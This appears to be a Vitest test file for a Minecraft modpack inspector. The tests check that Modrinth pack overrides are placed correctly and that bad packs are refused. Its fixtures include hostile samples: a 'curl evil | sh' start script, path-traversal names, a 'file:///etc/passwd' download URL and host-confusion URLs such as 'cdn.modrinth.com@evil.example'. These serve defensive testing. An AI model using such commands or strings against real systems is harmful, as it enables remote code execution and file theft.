import { describe, expect, test } from 'vitest';
import { type Files, inspectFiles } from '../../testing/inspect-files.ts';

const inspect = (files: Files) => inspectFiles(files, 'minecraft');

const file = (path: string, more: object = {}) => ({
  path,
  hashes: { sha1: 'a'.repeat(40), sha512: 'b'.repeat(128) },
  downloads: ['https://cdn.modrinth.com/data/x/a.jar'],
  fileSize: 1234,
  ...more,
});
const packIndex = (files: readonly object[], more: object = {}) =>
  JSON.stringify({
    formatVersion: 1,
    game: 'minecraft',
    versionId: '5.9.0',
    name: 'Fabulously Optimized',
    files,
    dependencies: { minecraft: '1.20.4', 'fabric-loader': '0.15.6' },
    ...more,
  });

describe('a pack', () => {
  test('of Modrinth gives a server what is for servers', async () => {
    const { content, placements, downloads, leftOut } = await inspect({
      'modrinth.index.json': packIndex([
        file('mods/both.jar', { env: { client: 'required', server: 'required' } }),
        file('mods/client.jar', { env: { client: 'required', server: 'unsupported' } }),
        file('mods/plain.jar'),
        file('mods/replaced.jar'),
      ]),
      'overrides/config/a.txt': 'for all',
      'overrides/config/b.txt': 'for all',
      'overrides/mods/replaced.jar': 'jar',
      'server-overrides/config/a.txt': 'for servers',
      'client-overrides/options.txt': 'for players',
      'overrides/server.properties': 'rcon.password=evil',
      'overrides/start.SH': 'curl evil | sh',
      'overrides/libraries/net/evil.jar': 'jar',
      'overrides/World/level.dat': 'world',
      'overrides/World/region/r.0.0.mca': 'world',
    });
    expect(content).toEqual({
      is: 'pack',
      name: 'Fabulously Optimized',
      version: '5.9.0',
      gameVersion: '1.20.4',
      loader: 'fabric',
      files: [
        { path: 'mods/both.jar', bytes: 1234, sha512: 'b'.repeat(128), host: 'cdn.modrinth.com' },
        { path: 'mods/plain.jar', bytes: 1234, sha512: 'b'.repeat(128), host: 'cdn.modrinth.com' },
        { path: 'mods/replaced.jar', bytes: 3, sha512: null, host: null },
      ],
      overrides: 2,
      clientOnly: 1,
    });
    expect(placements.toSorted((one, other) => (one.path < other.path ? -1 : 1))).toEqual([
      { entry: 'server-overrides/config/a.txt', path: 'config/a.txt' },
      { entry: 'overrides/config/b.txt', path: 'config/b.txt' },
      { entry: 'overrides/mods/replaced.jar', path: 'mods/replaced.jar' },
    ]);
    expect(downloads.map(({ path }) => path)).toEqual(['mods/both.jar', 'mods/plain.jar']);
    expect(downloads[0]?.file).toEqual({
      name: 'both.jar',
      bytes: 1234,
      hashes: { sha1: 'a'.repeat(40), sha512: 'b'.repeat(128) },
      from: { kind: 'address', url: 'https://cdn.modrinth.com/data/x/a.jar', key: null },
    });
    expect(leftOut.toSorted()).toEqual([
      'World/level.dat',
      'World/region/r.0.0.mca',
      'libraries/net/evil.jar',
      'server.properties',
      'start.SH',
    ]);
  });

  test.each([
    ['out of the folder', '../evil.jar', 'path-outside'],
    ['out of the folder with backslashes', 'mods\\..\\..\\evil.jar', 'path-outside'],
    ['on a drive', 'C:/evil.jar', 'path-absolute'],
    ['at the root', '/evil.jar', 'path-absolute'],
    ['to a device', 'mods/nul', 'path-name'],
    ['to a file that begins with a dot', 'mods/.hidden', 'path-name'],
    ['that is too long', `mods/${'x'.repeat(300)}.jar`, 'path-too-long'],
  ])('with a path %s is refused', async (_, path, fault) => {
    await expect(inspect({ 'modrinth.index.json': packIndex([file(path)]) })).rejects.toMatchObject({
      fault,
    });
  });

  test.each([
    ['http', 'http://cdn.modrinth.com/a.jar'],
    ['another host', 'https://evil.example/a.jar'],
    ['a host below', 'https://cdn.modrinth.com.evil.example/a.jar'],
    ['a user', 'https://cdn.modrinth.com@evil.example/a.jar'],
    ['a user of the right host', 'https://user:pass@cdn.modrinth.com/a.jar'],
    ['another port', 'https://cdn.modrinth.com:8443/a.jar'],
    ['a file', 'file:///etc/passwd'],
    ['no address', 'a.jar'],
  ])('with a download from %s is refused', async (_, url) => {
    const index = packIndex([file('mods/a.jar', { downloads: [url] })]);
    await expect(inspect({ 'modrinth.index.json': index })).rejects.toMatchObject({ fault: 'damaged' });
  });

  test.each([
    ['of another format', packIndex([], { formatVersion: 2 })],
    ['for another game', packIndex([], { game: 'chess' })],
    ['without hashes', packIndex([file('mods/a.jar', { hashes: {} })])],
    ['with a size below nothing', packIndex([file('mods/a.jar', { fileSize: -1 })])],
    ['with 2,001 files', packIndex(Array.from({ length: 2001 }, (_, at) => file(`mods/${at}.jar`)))],
    ['that is no JSON', '{'],
    ['that is a list', '[]'],
  ])('%s is refused', async (_, index) => {
    await expect(inspect({ 'modrinth.index.json': index })).rejects.toMatchObject({ fault: 'damaged' });
  });

  test('that names a file twice is refused', async () => {
    const twice = packIndex([file('mods/a.jar'), file('mods/A.jar')]);
    await expect(inspect({ 'modrinth.index.json': twice })).rejects.toMatchObject({
      fault: 'case-collision',
    });
    const over = { 'modrinth.index.json': packIndex([file('mods/a.jar')]), 'overrides/mods/A.jar': 'jar' };
    await expect(inspect(over)).rejects.toMatchObject({ fault: 'case-collision' });
  });

  test.each(['', 'All the Mods 9 server/'])('for servers as a zip below “%s”', async (folder) => {
    const { content, placements, leftOut } = await inspect({
      [`${folder}mods/create.jar`]: 'jar',
      [`${folder}config/create.toml`]: 'toml',
      [`${folder}startserver.bat`]: 'java',
      [`${folder}forge-47-installer.jar`]: 'jar',
      [`${folder}eula.txt`]: 'eula=true',
    });
    expect(content).toMatchObject({
      is: 'pack',
      files: [{ path: 'mods/create.jar', bytes: 3, sha512: null, host: null }],
      overrides: 1,
      clientOnly: 0,
    });
    expect(placements).toEqual([
      { entry: `${folder}mods/create.jar`, path: 'mods/create.jar' },
      { entry: `${folder}config/create.toml`, path: 'config/create.toml' },
    ]);
    expect(leftOut).toEqual(['startserver.bat', 'forge-47-installer.jar', 'eula.txt']);
  });

  test.each<[string, Files]>([
    [
      'for players of CurseForge',
      { 'manifest.json': '{"manifestType":"minecraftModpack"}', 'overrides/mods/a.jar': '' },
    ],
    ['without mods', { 'readme.txt': '' }],
  ])('%s is none', async (_, files) => {
    expect((await inspect(files)).content).toMatchObject({ is: 'unknown' });
  });
});
